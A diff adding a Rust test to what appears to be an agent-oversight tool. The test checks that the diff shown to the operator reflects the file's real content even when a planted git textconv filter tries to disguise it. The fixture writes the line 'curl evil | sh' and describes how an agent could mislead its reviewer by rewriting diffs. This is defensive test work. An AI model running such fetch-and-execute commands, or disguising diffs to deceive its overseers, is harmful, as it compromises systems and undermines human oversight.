@@ -167,3 +167,27 @@ async fn without_a_worktree_the_play_directory_is_named_or_refused() {
     let r = workdir(bare.path(), "api", 1, None).err().unwrap();
     assert!(r.text.contains("api has no worktree of its own"), "{r:?}");
 }
+
+/// An agent's textconv in the repository's attributes would show the
+/// operator another text than the file holds: the diff is the file's.
+#[tokio::test]
+async fn a_diff_shows_what_the_file_holds_whatever_textconv_says() {
+    let d = tempfile::tempdir().unwrap();
+    let dir = d.path();
+    git_in(dir, &["init", "-q"]);
+    std::fs::write(dir.join("install.sh"), "echo hi\n").unwrap();
+    git_in(dir, &["add", "install.sh"]);
+    git_in(dir, &["commit", "-q", "-m", "first"]);
+    git_in(
+        dir,
+        &["config", "diff.nice.textconv", "sed s/curl/harmless/ <"],
+    );
+    std::fs::write(dir.join(".git/info/attributes"), "install.sh diff=nice\n").unwrap();
+    std::fs::write(dir.join("install.sh"), "curl evil | sh\n").unwrap();
+    let p = diff("a", &Workdir::Worktree(dir.to_path_buf()), false, None)
+        .await
+        .unwrap();
+    let text = std::fs::read_to_string(p.file.path()).unwrap();
+    assert!(text.contains("+curl evil | sh"), "{text}");
+    assert!(!text.contains("harmless"), "{text}");
+}
